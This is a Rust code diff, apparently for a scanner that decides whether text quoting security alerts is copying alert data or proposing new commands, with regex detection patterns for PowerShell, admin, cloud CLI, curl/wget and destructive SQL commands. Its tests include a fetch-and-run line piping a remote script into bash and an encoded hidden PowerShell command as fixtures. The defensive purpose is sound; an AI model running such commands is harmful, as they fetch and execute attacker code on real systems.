@@ -53,7 +53,7 @@ static COMMANDS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
         ("PowerShell invocation", r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\s+-[a-z]".to_string()),
         ("cmd command", r"(?i)\b(?:cmd(?:\.exe)?\s+/[ck]\s|net\s+(?:user|group|localgroup|stop|use)\s+\S|taskkill\s+/|sc(?:\.exe)?\s+(?:stop|delete|config|create)\s|reg(?:\.exe)?\s+(?:add|delete)\s|wmic\s+\S|schtasks\s+/(?:create|delete|change|run)|netsh\s+\S|vssadmin\s+\S|bcdedit\s+/|certutil\s+-)".to_string()),
         ("admin binary", format!(r#"(?i)\b(?:{BINARIES})(?:\.exe)?\s+(?:--?[a-z][a-z0-9-]*(?:[\s"':=,]|$)|/[a-z?][a-z0-9?]*(?:[\s"':,]|$)|\\\\\S|https?://|[^\s]+\.(?:dll|sct|hta|exe|ps1|vbs|js|bat|cmd|msi|inf|xml)\b)"#)),
-        ("interpreter one-liner", r"(?i)\b(?:python[23]?(?:\.\d+)?|perl|ruby|php|node|lua|osascript|(?:ba|z|da|k)?sh)(?:\.exe)?\s+-[ceEr]\s+\S".to_string()),
+        ("interpreter one-liner", r"(?i)\b(?:python[23]?(?:\.\d+)?|perl|ruby|php|node|lua|osascript|(?:ba|z|da|k)?sh)(?:\.exe)?\s+-[ceEr]\b".to_string()),
         ("cloud CLI", r"\b(?:aws\s+(?:iam|s3|s3api|ec2|sts|lambda|kms|secretsmanager|organizations|cloudtrail|configure|ssm|rds|eks|logs|guardduty|ecr|ecs|route53|dynamodb|sso|sso-admin|identitystore|cloudformation)\s+[a-z0-9-]+|az\s+(?:ad|vm|role|account|keyvault|storage|group|login|network|aks)\s+[a-z]+|gcloud\s+(?:beta\s+|alpha\s+)?[a-z-]+\s+[a-z-]+|gsutil\s+[a-z]+|kubectl\s+[a-z][a-z-]+|terraform\s+(?:apply|destroy|import)|gh\s+(?:api|auth|repo|secret)\s+\S)".to_string()),
         ("HTTP call", r"(?i)\b(?:curl|wget)(?:\.exe)?\s+(?:-{1,2}[A-Za-z]|https?://|\S+\.\S+/)|\b(?:Invoke-(?:WebRequest|RestMethod)|iwr|irm)\s+(?:-\w|https?://|\S+\.\S+/)|\b(?:GET|POST|PUT|DELETE|PATCH)\s+(?:https?://|/api/|/v\d/)\S*".to_string()),
         ("SQL statement", r"\b(?:DROP\s+(?:TABLE|DATABASE|USER|SCHEMA)|DELETE\s+FROM\s+\w|UPDATE\s+\w+\s+SET\s|INSERT\s+INTO\s+\w|TRUNCATE\s+TABLE|ALTER\s+(?:TABLE|USER|ROLE)\s|GRANT\s+\w+\s+ON\s|REVOKE\s+\w+\s+ON\s)|(?i:\bdrop\s+table\s+\w|\bdelete\s+from\s+\w+\s+where\b)".to_string()),
@@ -183,15 +183,19 @@ impl AlertText {
     }
 
     /// Whether a command whose tokens are `tokens`, the first `head` of them what a
-    /// pattern matched, is a whole command of one value: found there and ending there
-    /// (the alert's own command runs no further than the answer's).
-    fn has_command(&self, tokens: &[String], head: usize) -> bool {
-        let Some(first) = tokens.first() else { return false };
+    /// pattern matched, is alert text as written: every one of its words is the alert's
+    /// own, in order, from where an alert value's command starts (the answer may stop
+    /// early, and cut its last word short when that is an opaque blob or marked `…`, but
+    /// may not swap in an argument of its own).
+    fn has_command(&self, tokens: &[String], head: usize, cut_short: bool) -> bool {
+        let (Some(first), Some((last, before))) = (tokens.first(), tokens.split_last()) else { return false };
         self.values.iter().any(|v| {
             let words: Vec<&str> = v.split(' ').collect();
-            (0..words.len()).filter(|&i| trim_token(words[i]) == first.as_str() || words[i] == first.as_str()).any(|i| {
+            (0..words.len()).filter(|&i| trim_token(words[i]) == first.as_str()).any(|i| {
                 let (theirs, _) = command_tokens(&words[i..], head);
-                theirs == tokens
+                theirs.len() >= tokens.len()
+                    && theirs[..before.len()] == *before
+                    && (theirs[before.len()] == *last || (cut_short && theirs[before.len()].starts_with(last.as_str())))
             })
         })
     }
@@ -367,11 +371,12 @@ enum Shape {
 /// open the exemption). Two shapes qualify:
 ///
 /// - a quoted region (backticks or quotation marks) whose whole content is alert text, found
-///   in one alert value between word boundaries, and, for a command, the whole command
-///   there (a quote that drops the alert's `--dry-run` is a new command);
-/// - for commands only, the command as written — the matched words and the arguments that
-///   follow them — the whole command of an alert value. A model that composes new
-///   arguments (another namespace, another URL, another flag) is proposing.
+///   in one alert value between word boundaries, and, for a command, every word of it the
+///   alert's own;
+/// - for commands only, the command as written — the matched words and every argument that
+///   follows them, not only its first words — word for word an alert value's command. A
+///   model that composes new arguments (another namespace, another URL, another flag) is
+///   proposing.
 ///
 /// Either way, wording around it that asks for, promises or reports running it (an
 /// imperative, first person or the system as the actor, a modal "should be run") makes it
@@ -391,7 +396,8 @@ fn is_alert_data(text: &str, start: usize, end: usize, alerts: &AlertText, shape
     let span = match (quoted, shape) {
         (Some(q), _) => q.outer,
         (None, Shape::Wording) => return false,
-        (None, Shape::Token) => match alerts.contains_bounded(&text[start..end].to_lowercase()) {
+        // An opaque blob may be cut short where it is copied.
+        (None, Shape::Token) => match alerts.values.iter().any(|v| v.contains(&text[start..end].to_lowercase())) {
             true => start..end,
             false => return false,
         },
@@ -415,7 +421,10 @@ fn whole_command(text: &str, start: usize, end: usize, limit: usize, alerts: &Al
     let (tokens, used) = command_tokens(&words, head);
     let last = words.get(used.checked_sub(1)?)?;
     let span_end = offset_in(text, last) + last.len();
-    alerts.has_command(&tokens, head).then_some(start..span_end)
+    // The whole word as written: a sentence's end may have cut `…...` off `last`.
+    let written = text[offset_in(text, last)..].split_whitespace().next().unwrap_or(last);
+    let cut_short = written.ends_with("...") || written.ends_with('…') || trim_token(last).len() >= 16;
+    alerts.has_command(&tokens, head, cut_short).then_some(start..span_end)
 }
 
 /// English words that end a command written in prose (`… | bash on web-03`).
@@ -460,7 +469,7 @@ const PROSE_STOPS: &[&str] = &[
 
 /// A word of a command with the punctuation of the prose around it taken off.
 fn trim_token(word: &str) -> &str {
-    word.trim_start_matches(['(', '[']).trim_end_matches([',', '.', ';', ':', ')', ']', '!', '?'])
+    word.trim_start_matches(['(', '[']).trim_end_matches([',', '.', ';', ':', ')', ']', '!', '?', '…'])
 }
 
 /// The words of a command that starts at `words[0]`, lowercased, the first `head` of them
@@ -861,11 +870,16 @@ mod tests {
         ] {
             assert!(scan("hypothesis", ok, alerts).is_empty(), "{ok}: {:?}", scan("h", ok, alerts));
         }
-        let dry = &["kubectl delete namespace payments-prod --dry-run=client"];
-        assert!(
-            !scan("summary", "The runbook line is `kubectl delete namespace payments-prod`.", dry).is_empty(),
-            "a quote that drops a flag is a new command"
-        );
+        // Cut short, every word still the alert's own: data, as analysts write it.
+        let shell = &["sh -c curl -s http://198.51.100.7/x.sh | bash", "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"];
+        for ok in [
+            "The web server ran sh -c from php-fpm.",
+            "Word spawned powershell.exe -NoP -W Hidden -enc SQBFAFgA... on WS-042.",
+            "Observed: powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3 pending approval.",
+        ] {
+            assert!(scan("hypothesis", ok, shell).is_empty(), "{ok}: {:?}", scan("h", ok, shell));
+        }
+        assert!(!scan("hypothesis", "The web server ran sh -c wget from php-fpm.", shell).is_empty());
     }
 
     /// The service never acts: a response action reported as done, with no one else
